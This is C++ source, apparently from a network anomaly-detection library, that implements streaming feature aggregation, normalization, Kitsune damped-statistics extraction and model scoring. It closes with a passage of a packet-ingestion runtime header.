/// packet arrival order, so the sequential accumulations (Welford mean/std,
/// sum) are bit-identical to compute_agg's loop over the same series.
struct FieldAcc {
  features::RunningStats rs;
  std::unique_ptr<std::set<double>> distinct;        // allocated on demand
  std::unique_ptr<std::map<double, double>> counts;  // entropy, sorted keys
  double first = 0.0;
  double last = 0.0;
  bool any = false;
  size_t changes = 0;  // consecutive-value changes, for change_rate
};

/// What a chain's aggregate list needs per field.
struct FieldNeed {
  std::string field;  // "" already resolved to "len"
  bool distinct = false;
  bool entropy = false;
};

/// Per-unit accumulator: unit-level state plus one FieldAcc per needed
/// field. Replicates compute_agg exactly — see finalize_agg.
struct GroupAcc {
  explicit GroupAcc(size_t fields) : field(fields) {}
  size_t count = 0;
  double first_ts = 0.0;
  double last_ts = 0.0;  // arrival order, like view[idx.back()].ts
  double bytes = 0.0;
  std::vector<FieldAcc> field;
};

/// "apply_aggregates": per-(group, window) unit accumulators over FlatMap
/// state, flushed into one FeatureTable per epoch. Unit math replicates the
/// batch compute_agg bit for bit (same accumulation order, same guards);
/// per-epoch state is cleared after every flush, so memory is bounded by
/// the number of groups active within one window, not by stream length.
class AggregateOp final : public StreamOp {
 public:
  AggregateOp(std::vector<AggSpec> aggs, const GroupByOp* groups,
              bool windowed, StreamPipeline::Counters* counts)
      : aggs_(std::move(aggs)), groups_(groups), windowed_(windowed),
        counts_(counts) {
    // Resolve each agg to its field slot ("" means the default "len"
    // series; count/rate/duration/bytes_rate use unit-level state only).
    for (const AggSpec& a : aggs_) {
      col_names_.push_back(a.column_name());
      if (a.func == "count" || a.func == "rate" || a.func == "duration" ||
          a.func == "bytes_rate") {
        slot_of_.push_back(SIZE_MAX);
        continue;
      }
      const std::string field = a.field.empty() ? "len" : a.field;
      size_t slot = SIZE_MAX;
      for (size_t f = 0; f < needs_.size(); ++f) {
        if (needs_[f].field == field) slot = f;
      }
      if (slot == SIZE_MAX) {
        slot = needs_.size();
        needs_.push_back(FieldNeed{field, false, false});
      }
      if (a.func == "distinct") needs_[slot].distinct = true;
      if (a.func == "entropy") needs_[slot].entropy = true;
      slot_of_.push_back(slot);
    }
    index_.reserve(64);
  }
  const char* name() const override { return "apply_aggregates"; }

  void push(PacketTuple& t) override {
    if (!open_) {
      open_ = true;
      epoch_ = t.window;
      window_start_ = t.window_start;
    }
    auto [slot, fresh] = index_.try_emplace(t.group, 0);
    if (fresh) {
      *slot = static_cast<uint32_t>(accs_.size());
      order_.push_back(t.group);
      accs_.emplace_back(needs_.size());
    }
    GroupAcc& g = accs_[*slot];
    const PacketView& v = *t.view;
    const bool had_prev = g.count > 0;
    const double prev_ts = g.last_ts;
    if (!had_prev) g.first_ts = v.ts;
    ++g.count;
    g.last_ts = v.ts;
    g.bytes += v.wire_len;
    for (size_t f = 0; f < needs_.size(); ++f) {
      double val = 0.0;
      if (needs_[f].field == "iat") {
        if (!had_prev) continue;  // series starts at the second packet
        val = v.ts - prev_ts;
      } else if (!packet_field(v, needs_[f].field, &val)) {
        continue;  // unknown fields were rejected at compile time
      }
      feed(g.field[f], needs_[f], val);
    }
    forward(t);
  }

  void flush_epoch(uint64_t epoch) override {
    if (open_) {
      telemetry::Span span(reg_, span_name_);
      EpochBatch b;
      b.epoch = epoch_;
      b.window_start = window_start_;
      b.table = FeatureTable::make(order_.size(), col_names_);
      b.keys.reserve(order_.size());
      for (size_t r = 0; r < order_.size(); ++r) {
        const uint32_t gid = order_[r];
        const GroupAcc& g = accs_[*index_.find(gid)];
        std::string key = groups_ != nullptr ? groups_->key_of(gid) : "all";
        if (windowed_) {
          key += "#w" + std::to_string(static_cast<int64_t>(epoch_));
        }
        b.keys.push_back(std::move(key));
        for (size_t c = 0; c < aggs_.size(); ++c) {
          b.table.at(r, c) = finalize_agg(g, aggs_[c], slot_of_[c]);
        }
        b.table.unit_id[r] = static_cast<int64_t>(row_seq_++);
        b.table.unit_time[r] = g.first_ts;
      }
      span.set_value(b.table.rows);
      span.stop();
      index_.clear();
      index_.reserve(64);
      order_.clear();
      accs_.clear();
      open_ = false;
      forward_rows(std::move(b));
    }
    forward_flush(epoch);
  }

  void reset() override {
    index_.clear();
    index_.reserve(64);
    order_.clear();
    accs_.clear();
    open_ = false;
    row_seq_ = 0;
  }

 private:
  static void feed(FieldAcc& acc, const FieldNeed& need, double val) {
    if (acc.any && val != acc.last) ++acc.changes;
    if (!acc.any) {
      acc.first = val;
      acc.any = true;
    }
    acc.last = val;
    acc.rs.add(val);
    if (need.distinct) {
      if (!acc.distinct) acc.distinct = std::make_unique<std::set<double>>();
      acc.distinct->insert(val);
    }
    if (need.entropy) {
      if (!acc.counts) {
        acc.counts = std::make_unique<std::map<double, double>>();
      }
      (*acc.counts)[val] += 1.0;
    }
  }

  /// Mirror of compute_agg over the accumulated state. `dur` is the
  /// arrival-order first-to-last gap, exactly as the batch op computes it.
  double finalize_agg(const GroupAcc& g, const AggSpec& a, size_t slot) const {
    if (a.func == "count") return static_cast<double>(g.count);
    const double dur = g.count >= 2 ? g.last_ts - g.first_ts : 0.0;
    if (a.func == "rate") {
      return dur > 1e-9 ? static_cast<double>(g.count) / dur : 0.0;
    }
    if (a.func == "duration") return dur;
    if (a.func == "bytes_rate") return dur > 1e-9 ? g.bytes / dur : 0.0;

    const FieldAcc& f = g.field[slot];
    // Batch returns 0.0 for an empty series before dispatching on func.
    if (f.rs.count() == 0) return 0.0;
    if (a.func == "distinct") {
      return f.distinct ? static_cast<double>(f.distinct->size()) : 0.0;
    }
    if (a.func == "entropy") {
      std::vector<double> c;
      if (f.counts) {
        c.reserve(f.counts->size());
        for (const auto& [k, n] : *f.counts) c.push_back(n);
      }
      return features::entropy_bits(c);
    }
    if (a.func == "change_rate") {
      return dur > 1e-9 ? static_cast<double>(f.changes) / dur
                        : static_cast<double>(f.changes);
    }
    if (a.func == "first") return f.first;
    if (a.func == "last") return f.last;
    if (a.func == "sum") return f.rs.sum();
    if (a.func == "mean") return f.rs.mean();
    if (a.func == "std") return f.rs.stddev();
    if (a.func == "min") return f.rs.min();
    if (a.func == "max") return f.rs.max();
    if (a.func == "range") return f.rs.max() - f.rs.min();
    return 0.0;  // unknown funcs rejected at compile time
  }

  std::vector<AggSpec> aggs_;
  std::vector<std::string> col_names_;
  std::vector<size_t> slot_of_;   // agg -> field slot (SIZE_MAX: unit-level)
  std::vector<FieldNeed> needs_;  // distinct fields the aggs read
  const GroupByOp* groups_;       // nullptr when the chain has no groupby
  const bool windowed_;
  StreamPipeline::Counters* counts_;

  FlatMap<uint32_t, uint32_t> index_;  // gid -> position in accs_
  std::vector<uint32_t> order_;        // first-arrival order within the epoch
  std::vector<GroupAcc> accs_;
  bool open_ = false;
  uint64_t epoch_ = 0;
  double window_start_ = 0.0;
  uint64_t row_seq_ = 0;
};

// ---- per-packet feature producers ----------------------------------------

/// Shared frame for damped_stats / packet_features: rows buffer up to the
/// micro-batch size, then flow downstream as one EpochBatch (epoch = batch
/// sequence number). The buffered block is what the fused score_rows path
/// consumes in one call — the same micro-batch staging the ingest runtime's
/// score_batch loop uses.
class RowBufferOp : public StreamOp {
 public:
  RowBufferOp(std::vector<std::string> names, size_t micro_batch)
      : names_(std::move(names)),
        micro_batch_(micro_batch == 0 ? 1 : micro_batch) {
    dim_ = names_.size();
  }

  void flush_epoch(uint64_t epoch) override {
    emit();
    forward_flush(epoch);
  }

  void reset() override {
    data_.clear();
    unit_id_.clear();
    unit_time_.clear();
    seq_ = 0;
  }

 protected:
  void add_row(const double* row, int64_t unit_id, double ts) {
    data_.insert(data_.end(), row, row + dim_);
    unit_id_.push_back(unit_id);
    unit_time_.push_back(ts);
    if (unit_id_.size() >= micro_batch_) emit();
  }

  void emit() {
    const size_t m = unit_id_.size();
    if (m == 0) return;
    telemetry::Span span(reg_, span_name_);
    EpochBatch b;
    b.epoch = seq_++;
    b.window_start = unit_time_.front();
    b.table = FeatureTable::make(m, names_);
    b.table.data = std::move(data_);
    b.table.unit_id = std::move(unit_id_);
    b.table.unit_time = std::move(unit_time_);
    data_ = {};
    unit_id_ = {};
    unit_time_ = {};
    span.set_value(m);
    span.stop();
    forward_rows(std::move(b));
  }

  std::vector<std::string> names_;
  size_t dim_ = 0;
  const size_t micro_batch_;
  std::vector<double> data_;
  std::vector<int64_t> unit_id_;
  std::vector<double> unit_time_;
  uint64_t seq_ = 0;
};

/// "damped_stats": the Kitsune extractor, row per packet. Starts from fresh
/// statistics like the batch op does on its input slice; unit_id carries
/// the capture index (the live-meaningful identifier).
class DampedStatsOp final : public RowBufferOp {
 public:
  DampedStatsOp(std::vector<double> lambdas, size_t micro_batch)
      : RowBufferOp(KitsuneExtractor(lambdas).feature_names(), micro_batch),
        extractor_(lambdas) {}
  const char* name() const override { return "damped_stats"; }

  void push(PacketTuple& t) override {
    extractor_.process(*t.view, row_);
    add_row(row_.data(), static_cast<int64_t>(t.view->index), t.view->ts);
  }

  void reset() override {
    RowBufferOp::reset();
    extractor_.reset();
  }

 private:
  KitsuneExtractor extractor_;
  std::vector<double> row_;
};

/// "packet_features": per-packet field vector (optional one-hot app).
/// "iat" is the gap from the previous packet this op saw — which is the
/// batch semantics over the same (possibly filtered) packet sequence.
class PacketFeaturesOp final : public RowBufferOp {
 public:
  static std::vector<std::string> column_names(
      const std::vector<std::string>& fields, bool one_hot_app) {
    std::vector<std::string> names = fields;
    if (one_hot_app) {
      for (int a = 0; a < kAppCount; ++a) {
        names.push_back(std::string("app_") +
                        netio::app_proto_name(static_cast<netio::AppProto>(a)));
      }
    }
    return names;
  }

  PacketFeaturesOp(std::vector<std::string> fields, bool one_hot_app,
                   size_t micro_batch)
      : RowBufferOp(column_names(fields, one_hot_app), micro_batch),
        fields_(std::move(fields)),
        one_hot_app_(one_hot_app) {
    row_.resize(dim_);
  }
  const char* name() const override { return "packet_features"; }

  void push(PacketTuple& t) override {
    const PacketView& v = *t.view;
    std::fill(row_.begin(), row_.end(), 0.0);
    for (size_t c = 0; c < fields_.size(); ++c) {
      if (fields_[c] == "iat") {
        row_[c] = seen_any_ ? v.ts - prev_ts_ : 0.0;
      } else {
        double val = 0.0;
        packet_field(v, fields_[c], &val);
        row_[c] = val;
      }
    }
    if (one_hot_app_) {
      row_[fields_.size() + static_cast<size_t>(v.app)] = 1.0;
    }
    seen_any_ = true;
    prev_ts_ = v.ts;
    add_row(row_.data(), static_cast<int64_t>(v.index), v.ts);
  }

  void reset() override {
    RowBufferOp::reset();
    seen_any_ = false;
    prev_ts_ = 0.0;
  }

 private:
  static constexpr int kAppCount = 10;  // netio::AppProto cardinality
  std::vector<std::string> fields_;
  const bool one_hot_app_;
  std::vector<double> row_;
  bool seen_any_ = false;
  double prev_ts_ = 0.0;
};

// ---- row-phase operators -------------------------------------------------

/// "normalize": two streaming modes.
///  * "epoch" (default): refit on each epoch's rows — identical to running
///    the batch op on that epoch's slice. min-max fits are order-
///    independent, so the result matches the batch fit over the same rows
///    regardless of row order.
///  * "running": cumulative statistics over every row seen so far (a
///    streaming-only extension; no batch counterpart).
/// The batch op's whole-table fit has no windowed streaming equivalent —
/// the evaluation protocol's train-frozen normalization (model op with
/// normalize=true) is the exactly-equivalent alternative.
class NormalizeOp final : public StreamOp {
 public:
  NormalizeOp(features::NormKind kind, bool running)
      : kind_(kind), running_(running) {}
  const char* name() const override { return "normalize"; }

  void push_rows(EpochBatch&& b) override {
    if (b.table.rows > 0) {
      telemetry::Span span(reg_, span_name_);
      if (!running_) {
        features::Normalizer norm(kind_);
        norm.fit(b.table);
        norm.apply(b.table);
      } else {
        apply_running(b.table);
      }
      span.set_value(b.table.rows);
    }
    forward_rows(std::move(b));
  }

  void reset() override { cols_.clear(); }

 private:
  void apply_running(FeatureTable& t) {
    cols_.resize(std::max(cols_.size(), t.cols));
    for (size_t c = 0; c < t.cols; ++c) {
      for (size_t r = 0; r < t.rows; ++r) {
        const double v = t.at(r, c);
        if (std::isfinite(v)) cols_[c].add(v);
      }
    }
    // Same shift/scale construction and degenerate-column guards as
    // Normalizer::fit, over the cumulative statistics.
    std::vector<double> shift(t.cols, 0.0), scale(t.cols, 1.0);
    for (size_t c = 0; c < t.cols; ++c) {
      const features::RunningStats& rs = cols_[c];
      if (rs.count() == 0) continue;
      if (kind_ == features::NormKind::kMinMax) {
        shift[c] = rs.min();
        const double range = rs.max() - rs.min();
        scale[c] = range > 1e-12 ? range : 1.0;
      } else {
        shift[c] = rs.mean();
        const double sd = rs.stddev();
        scale[c] = sd > 1e-12 ? sd : 1.0;
      }
    }
    features::Normalizer norm;
    norm.restore(kind_, std::move(shift), std::move(scale));
    norm.apply(t);
  }

  const features::NormKind kind_;
  const bool running_;
  std::vector<features::RunningStats> cols_;  // running mode only
};

/// "predict": score each epoch's rows with the seeded batch-trained model,
/// replicating run_predict (impute -> corr-filter -> normalizer -> model)
/// on a copy, so the emitted aggregates stay raw. Per-row scores are
/// independent of batch composition (the score_rows contract), so scoring
/// epoch-by-epoch equals the batch engine's whole-table pass row for row.
class ScoreOp final : public StreamOp {
 public:
  explicit ScoreOp(ModelValue mv) : mv_(std::move(mv)) {
    // Best-effort lowering into a compiled f64 plan (ml/compiled.h): the
    // plan replays the reference kernels in the reference order, so scores
    // are bit-identical and the epoch/batch equivalence guarantee is
    // untouched; it only drops the per-epoch weight-marshalling overhead.
    // Models without a compiled form keep scoring through the Model.
    if (mv_.model != nullptr) {
      auto plan = ml::compiled::compile(*mv_.model);
      if (plan.ok()) {
        compiled_ = ml::compiled::wrap(std::move(plan).value(),
                                       mv_.model->name());
      }
    }
  }
  const char* name() const override { return "predict"; }

  void push_rows(EpochBatch&& b) override {
    if (b.table.rows > 0) {
      telemetry::Span span(reg_, span_name_);
      FeatureTable X = b.table;
      features::impute_non_finite(X);
      if (mv_.corr_filter) X = mv_.corr_filter->apply(X);
      if (mv_.normalizer) mv_.normalizer->apply(X);
      b.scores = compiled_ ? compiled_->score(X) : mv_.model->score(X);
      if (const auto* kit = dynamic_cast<const ml::KitNet*>(mv_.model.get())) {
        // KitNet::predict == threshold_predict(score(X), threshold()), and
        // score is deterministic — reuse the scores instead of paying a
        // second full scoring pass per epoch.
        b.predictions = ml::threshold_predict(b.scores, kit->threshold());
      } else {
        b.predictions = mv_.model->predict(X);
      }
      b.scored = true;
      span.set_value(b.table.rows);
    }
    forward_rows(std::move(b));
  }

 private:
  ModelValue mv_;
  ml::ModelPtr compiled_;  // null when the model has no compiled form
};

/// Terminal: hand the finished epoch to the embedder and keep the chain's
/// counters (and, when instrumented, the registry mirrors) up to date.
class EmitOp final : public StreamOp {
 public:
  EmitOp(StreamPipeline::Counters* counts, telemetry::Registry* reg,
         const std::string& prefix)
      : counts_(counts) {
    if (reg != nullptr) {
      packets_ctr_ = &reg->counter(prefix + "packets");
      rows_ctr_ = &reg->counter(prefix + "rows");
      epochs_ctr_ = &reg->counter(prefix + "epochs");
      alerts_ctr_ = &reg->counter(prefix + "alerts");
      late_ctr_ = &reg->counter(prefix + "late_packets");
    }
  }
  const char* name() const override { return "emit"; }

  void set_callback(StreamPipeline::EpochCallback cb) { cb_ = std::move(cb); }

  void push_rows(EpochBatch&& b) override {
    counts_->rows += b.table.rows;
    counts_->epochs += 1;
    uint64_t alerts = 0;
    for (const int p : b.predictions) alerts += p != 0 ? 1 : 0;
    counts_->alerts += alerts;
    if (rows_ctr_ != nullptr) {
      rows_ctr_->add(b.table.rows);
      epochs_ctr_->add(1);
      if (alerts != 0) alerts_ctr_->add(alerts);
      packets_ctr_->add(counts_->packets - mirrored_packets_);
      mirrored_packets_ = counts_->packets;
      if (counts_->late != mirrored_late_) {
        late_ctr_->add(counts_->late - mirrored_late_);
        mirrored_late_ = counts_->late;
      }
    }
    if (cb_) cb_(std::move(b));
  }

  void flush_epoch(uint64_t epoch) override {
    if (packets_ctr_ != nullptr && epoch == kFlushAll) {
      packets_ctr_->add(counts_->packets - mirrored_packets_);
      mirrored_packets_ = counts_->packets;
    }
  }

  void reset() override {
    mirrored_packets_ = 0;
    mirrored_late_ = 0;
  }

 private:
  StreamPipeline::Counters* counts_;
  StreamPipeline::EpochCallback cb_;
  telemetry::Counter* packets_ctr_ = nullptr;
  telemetry::Counter* rows_ctr_ = nullptr;
  telemetry::Counter* epochs_ctr_ = nullptr;
  telemetry::Counter* alerts_ctr_ = nullptr;
  telemetry::Counter* late_ctr_ = nullptr;
  uint64_t mirrored_packets_ = 0;
  uint64_t mirrored_late_ = 0;
};

}  // namespace stream_detail

// ---- StreamPipeline ------------------------------------------------------

void StreamPipeline::set_callback(EpochCallback cb) {
  emit_->set_callback(std::move(cb));
}

void StreamPipeline::push(const netio::PacketView& v) {
  PacketTuple t;
  t.view = &v;
  ++counts_.packets;
  front_->push(t);
}

void StreamPipeline::finish() {
  if (finished_) return;
  finished_ = true;
  front_->flush_epoch(kFlushAll);
}

void StreamPipeline::reset() {
  for (auto& op : ops_) op->reset();
  counts_ = Counters{};
  finished_ = false;
}

// ---- compile_streaming ---------------------------------------------------

namespace {

constexpr const char* kSupportedOps =
    "field_extract, filter, groupby, time_slice (align=\"global\"), "
    "apply_aggregates, normalize, predict, damped_stats, packet_features";

Error lower_error(size_t i, const OpSpec& op, const std::string& msg) {
  return Error::make("compile_streaming", "op #" + std::to_string(i) + " ('" +
                                              op.func + "'): " + msg);
}

}  // namespace

Result<std::unique_ptr<StreamPipeline>> compile_streaming(
    const PipelineSpec& spec, StreamingOptions opts) {
  // The batch engine's static analysis runs first, seeded with the same
  // bindings: unknown ops, broken wiring, and kind mismatches fail here
  // with the engine's own diagnostics before lowering even starts.
  {
    Engine::Options eopts;
    eopts.registry = nullptr;
    Result<void> tc = Engine(eopts).type_check(spec, &opts.bindings);
    if (!tc.ok()) return tc.error();
  }
  if (spec.ops.empty()) {
    return Error::make("compile_streaming", "empty pipeline");
  }

  auto pipe = std::make_unique<StreamPipeline>();
  using namespace stream_detail;
  GroupByOp* groupby = nullptr;
  bool windowed = false;
  bool have_rows = false;  // chain switched from packets to feature rows
  std::string last_out;

  const auto chain_input_ok = [&](const OpSpec& op, size_t input_slot) {
    return input_slot < op.inputs.size() && op.inputs[input_slot] == last_out;
  };

  for (size_t i = 0; i < spec.ops.size(); ++i) {
    const OpSpec& op = spec.ops[i];
    std::unique_ptr<StreamOp> lowered;

    if (op.func == "model" || op.func == "train") {
      return lower_error(
          i, op,
          "training is batch-only — run the batch Engine once, keep the "
          "trained binding, and seed it through StreamingOptions::bindings "
          "(Engine::run accepts the same map)");
    }

    if (op.func == "field_extract") {
      if (i != 0 || !op.inputs.empty()) {
        return lower_error(i, op,
                           "must be the chain's first operation with no "
                           "input (it is the stream source)");
      }
      for (const std::string& f : op.params.get_string_list("param")) {
        double tmp = 0.0;
        if (f != "iat" && !packet_field(netio::PacketView{}, f, &tmp)) {
          return lower_error(i, op, "unknown field '" + f + "'");
        }
      }
      lowered = std::make_unique<SourceOp>();
    } else if (op.func == "filter") {
      if (have_rows || !chain_input_ok(op, 0)) {
        return lower_error(i, op,
                           "input '" + (op.inputs.empty() ? "" : op.inputs[0]) +
                               "' is not the preceding operation's output — "
                               "streaming lowering supports linear chains");
      }
      lowered =
          std::make_unique<FilterOp>(op.params.get_string_list("require"));
    } else if (op.func == "groupby") {
      if (have_rows || !chain_input_ok(op, 0)) {
        return lower_error(i, op, "streaming lowering supports linear chains "
                                  "only (input must be the previous output)");
      }
      if (groupby != nullptr) {
        return lower_error(i, op, "only one groupby stage can be lowered");
      }
      std::vector<std::string> keys = op.params.get_string_list("flowid");
      if (keys.empty()) keys = op.params.get_string_list("key");
      if (keys.empty()) return lower_error(i, op, "missing 'flowid' param");
      auto printable = make_group_key(keys.front());
      if (!printable.ok()) return printable.error();
      auto packed = make_packed_group_key(keys.front());
      if (!packed.ok()) return packed.error();
      auto gb = std::make_unique<GroupByOp>(std::move(packed).value(),
                                            std::move(printable).value());
      groupby = gb.get();
      lowered = std::move(gb);
    } else if (op.func == "time_slice") {
      if (have_rows || !chain_input_ok(op, 0)) {
        return lower_error(i, op, "streaming lowering supports linear chains "
                                  "only (input must be the previous output)");
      }
      if (windowed) {
        return lower_error(i, op, "only one time_slice stage can be lowered");
      }
      const double window = op.params.get_number("window", 10.0);
      if (window <= 0.0) return lower_error(i, op, "window must be > 0");
      const std::string align = op.params.get_string("align", "group");
      if (align != "global") {
        return lower_error(
            i, op,
            "streaming lowering requires align=\"global\" — per-group window "
            "phases have no shared epoch boundary to flush on; set "
            "{\"align\": \"global\"} in the spec (the batch engine honors "
            "the same parameter, so both paths stay comparable)");
      }
      windowed = true;
      lowered = std::make_unique<TimeSliceOp>(window, &pipe->counts_);
    } else if (op.func == "apply_aggregates") {
      if (have_rows || !chain_input_ok(op, 0)) {
        return lower_error(i, op, "streaming lowering supports linear chains "
                                  "only (input must be the previous output)");
      }
      std::vector<AggSpec> aggs = parse_agg_list(op.params);
      for (const AggSpec& a : aggs) {
        static const std::set<std::string> kFuncs = {
            "mean",     "std",      "min",     "max",   "sum",
            "count",    "rate",     "bytes_rate", "distinct", "entropy",
            "first",    "last",     "range",   "duration", "change_rate"};
        if (a.func == "median") {
          return lower_error(i, op,
                             "aggregate func 'median' is batch-only (it "
                             "needs the whole window resident); use "
                             "mean/std/min/max/... in streaming specs");
        }
        if (kFuncs.count(a.func) == 0) {
          return lower_error(i, op, "unknown func '" + a.func + "'");
        }
        if (!a.field.empty() && a.field != "iat") {
          double tmp = 0.0;
          if (!packet_field(netio::PacketView{}, a.field, &tmp)) {
            return lower_error(i, op, "unknown field '" + a.field + "'");
          }
        }
      }
      have_rows = true;
      lowered = std::make_unique<AggregateOp>(std::move(aggs), groupby,
                                              windowed, &pipe->counts_);
    } else if (op.func == "normalize") {
      if (!have_rows || !chain_input_ok(op, 0)) {
        return lower_error(i, op, "streaming lowering supports linear chains "
                                  "only (input must be the previous output)");
      }
      const std::string kind = op.params.get_string("kind", "minmax");
      const std::string mode = op.params.get_string("mode", "epoch");
      if (mode != "epoch" && mode != "running") {
        return lower_error(i, op,
                           "mode must be \"epoch\" (refit per window — the "
                           "batch op on that window's rows) or \"running\" "
                           "(cumulative, streaming-only)");
      }
      lowered = std::make_unique<NormalizeOp>(
          kind == "zscore" ? features::NormKind::kZScore
                           : features::NormKind::kMinMax,
          mode == "running");
    } else if (op.func == "predict") {
      if (!have_rows || !chain_input_ok(op, 1)) {
        return lower_error(i, op, "streaming lowering supports linear chains "
                                  "only (table input must be the previous "
                                  "output)");
      }
      const std::string& mname = op.inputs.empty() ? "" : op.inputs[0];
      auto it = opts.bindings.find(mname);
      if (it == opts.bindings.end()) {
        return lower_error(i, op,
                           "model binding '" + mname +
                               "' not found in StreamingOptions::bindings — "
                               "train it with the batch Engine and seed the "
                               "trained ModelValue here");
      }
      const ModelValue* mv = std::get_if<ModelValue>(&it->second);
      if (mv == nullptr || !mv->model) {
        return lower_error(i, op,
                           "binding '" + mname +
                               "' is not a constructed ModelValue");
      }
      lowered = std::make_unique<ScoreOp>(*mv);
    } else if (op.func == "damped_stats" || op.func == "packet_features") {
      if (have_rows || !chain_input_ok(op, 0)) {
        return lower_error(i, op, "streaming lowering supports linear chains "
                                  "only (input must be the previous output)");
      }
      if (op.func == "damped_stats") {
        lowered = std::make_unique<DampedStatsOp>(
            op.params.get_number_list("lambdas"), opts.micro_batch);
      } else {
        std::vector<std::string> fields = op.params.get_string_list("param");
        if (fields.empty()) fields = {"len", "iat", "proto", "sport", "dport"};
        lowered = std::make_unique<PacketFeaturesOp>(
            std::move(fields), op.params.get_bool("one_hot_app", false),
            opts.micro_batch);
      }
      have_rows = true;
    } else {
      return lower_error(
          i, op,
          "batch-only operation — it needs the whole run resident (flow "
          "reassembly, table surgery, evaluation, or I/O) and cannot be "
          "lowered to the streaming engine; supported ops: " +
              std::string(kSupportedOps));
    }

    lowered->set_telemetry(opts.registry,
                           opts.instrument_prefix + "op." + op.func);
    pipe->funcs_.push_back(op.func);
    pipe->ops_.push_back(std::move(lowered));
    last_out = op.output;
  }

  if (!have_rows) {
    return Error::make(
        "compile_streaming",
        "pipeline produces no streaming rows — end the chain with "
        "apply_aggregates, damped_stats, or packet_features (optionally "
        "followed by normalize / predict)");
  }

  auto emit = std::make_unique<stream_detail::EmitOp>(
      &pipe->counts_, opts.registry, opts.instrument_prefix);
  pipe->emit_ = emit.get();
  pipe->ops_.push_back(std::move(emit));
  for (size_t i = 0; i + 1 < pipe->ops_.size(); ++i) {
    pipe->ops_[i]->set_next(pipe->ops_[i + 1].get());
  }
  pipe->front_ = pipe->ops_.front().get();
  return pipe;
}

}  // namespace lumen::core
