// The original string-keyed Kitsune feature extractor, kept verbatim as the
// golden reference for the packed-key hot path in core/kitsune_extractor.h.
// tests/extractor_golden_test.cpp proves the production extractor emits
// bit-identical feature vectors to this implementation, and
// bench/bench_extractor.cpp measures the speedup against it. Not for
// production use: it builds several heap-allocated string keys and walks
// ~5 std::map trees per context per packet.
#pragma once

#include <cstdio>
#include <map>
#include <string>
#include <vector>

#include "features/stats.h"
#include "netio/bytes.h"
#include "netio/packet.h"

namespace lumen::core {

class ReferenceKitsuneExtractor {
 public:
  explicit ReferenceKitsuneExtractor(std::vector<double> lambdas = {})
      : lambdas_(std::move(lambdas)) {
    if (lambdas_.empty()) lambdas_ = {5.0, 3.0, 1.0, 0.1, 0.01};
    state_.resize(lambdas_.size());
  }

  size_t dim() const { return 23 * lambdas_.size(); }

  void process(const netio::PacketView& v, std::vector<double>& out) {
    out.assign(dim(), 0.0);
    const double size = v.wire_len;
    const double ts = v.ts;
    size_t c = 0;
    for (size_t li = 0; li < lambdas_.size(); ++li) {
      LambdaState& st = state_[li];
      const double lam = lambdas_[li];

      auto& mac = st.mac.try_emplace(mac_key(v), lam).first->second;
      mac.insert(size, ts);
      out[c++] = mac.weight();
      out[c++] = mac.mean();
      out[c++] = mac.stddev();

      if (!v.has_ip) {
        // Non-IP frame (ARP / 802.11): only the MAC context applies. The
        // historic skip width (17, not the 20 remaining slots) is part of
        // the observable feature layout and is preserved as-is.
        c += 17;
        continue;
      }
      const std::string sk = netio::ipv4_to_string(v.src_ip);
      auto& src = st.src.try_emplace(sk, lam).first->second;
      src.insert(size, ts);
      out[c++] = src.weight();
      out[c++] = src.mean();
      out[c++] = src.stddev();

      // Canonical channel/socket keys; dir 0 when src <= dst.
      const bool fwd = v.src_ip <= v.dst_ip;
      const std::string ch =
          fwd ? sk + ">" + netio::ipv4_to_string(v.dst_ip)
              : netio::ipv4_to_string(v.dst_ip) + ">" + sk;
      auto& chan = st.chan.try_emplace(ch, lam).first->second;
      chan.insert(fwd ? 0 : 1, size, ts);
      const features::DampedStat& cd = fwd ? chan.a() : chan.b();
      out[c++] = cd.weight();
      out[c++] = cd.mean();
      out[c++] = cd.stddev();

      const std::string sock =
          ch + ":" + std::to_string(fwd ? v.src_port : v.dst_port) + "-" +
          std::to_string(fwd ? v.dst_port : v.src_port);
      auto& so = st.sock.try_emplace(sock, lam).first->second;
      so.insert(fwd ? 0 : 1, size, ts);
      const features::DampedStat& sd = fwd ? so.a() : so.b();
      out[c++] = sd.weight();
      out[c++] = sd.mean();
      out[c++] = sd.stddev();

      out[c++] = chan.magnitude();
      out[c++] = chan.radius();
      out[c++] = chan.covariance();
      out[c++] = chan.pcc();
      out[c++] = so.magnitude();
      out[c++] = so.radius();
      out[c++] = so.covariance();
      out[c++] = so.pcc();

      auto& jit = st.jitter.try_emplace(ch, lam).first->second;
      auto [lit, fresh] = st.last_seen.try_emplace(ch, ts);
      if (!fresh) {
        jit.insert(ts - lit->second, ts);
        lit->second = ts;
      }
      out[c++] = jit.weight();
      out[c++] = jit.mean();
      out[c++] = jit.stddev();
    }
  }

  size_t tracked_contexts() const {
    size_t n = 0;
    for (const LambdaState& st : state_) {
      n += st.mac.size() + st.src.size() + st.chan.size() + st.sock.size() +
           st.jitter.size();
    }
    return n;
  }

 private:
  struct LambdaState {
    std::map<std::string, features::DampedStat> mac, src;
    std::map<std::string, features::DampedStat2D> chan, sock;
    std::map<std::string, features::DampedStat> jitter;  // per channel
    std::map<std::string, double> last_seen;             // per channel
  };

  static std::string mac_key(const netio::PacketView& v) {
    char buf[13];
    std::snprintf(buf, sizeof(buf), "%02x%02x%02x%02x%02x%02x", v.src_mac[0],
                  v.src_mac[1], v.src_mac[2], v.src_mac[3], v.src_mac[4],
                  v.src_mac[5]);
    return buf;
  }

  std::vector<double> lambdas_;
  std::vector<LambdaState> state_;
};

}  // namespace lumen::core
