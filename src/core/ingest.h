// Gateway ingestion runtime: decouples packet capture from detection.
//
// Packets enter through the unified front-end API (netio/frontend.h): any
// netio::SourceDriver — replay/pcap/fault adapters or the event-driven
// socket gateway — pushes SourcePackets into the runtime's FrameFeed.
// run(PacketSource&) survives as a thin wrapper over a ReplayDriver, so
// the historic pull-based call sites are byte-identical.
//
// Single-queue mode (the default):
//
//   SourceDriver -> BoundedPacketQueue -> N consumer threads -> AlertSink
//
// One producer (the calling thread) pulls packets from a netio::PacketSource
// into a bounded ring queue with an explicit overflow policy; each consumer
// thread parses, scores with its own PacketScorer (OnlineKitsune or any
// callable — e.g. a scorer assembled from core::Op pipelines), and emits
// alerts through a pluggable sink. Shutdown is graceful: the producer closes
// the queue at end of stream, consumers drain what is left and join. The
// runtime exports ingest statistics (enqueued, dropped, parse-skipped,
// scored, alerted, queue high-water mark).
//
// Flow-sharded mode (Options::shards > 0):
//
//   SourceDriver -> FlowShardRouter -> SpscRing[shard] -> shard consumer
//
// The producer hashes each frame's canonical flow identity (the same
// IP-pair channel key the Kitsune feature extractor groups by, falling
// back to the source MAC for non-IPv4 frames) and routes it to one of N
// single-producer/single-consumer rings. Each shard consumer owns a
